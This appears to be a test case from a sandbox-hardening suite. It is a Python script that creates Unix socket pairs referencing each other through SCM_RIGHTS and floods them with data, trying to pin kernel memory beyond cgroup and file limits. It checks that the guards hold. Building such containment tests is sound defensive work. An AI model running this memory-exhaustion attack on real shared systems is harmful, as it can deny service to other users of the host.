# attack: leaves memory in sockets that only travel within each other, so that no process has them
# guards: cgroup/memory, rlimit/files
# expect: AC|MLE
# stdout: held
import array
import errno
import os
import socket

CARGO = b"x" * 65536

sent = 0
errors = set()
for _ in range(4000):
    near, far = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for end in (near, far):
        end.setblocking(False)
    try:
        near.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [near.fileno(), far.fileno()]))])
        while True:
            sent += near.send(CARGO)
    except OSError as error:
        errors.add(error.errno)
    near.close()
    far.close()
    if errno.ETOOMANYREFS in errors or sent > 600 << 20:
        break
# The kernel collects such circles from time to time, so more may be sent than ever was there.
more = errors - {errno.ETOOMANYREFS, errno.EAGAIN}
print(f"BREACH unexpected {more}" if more else "held")
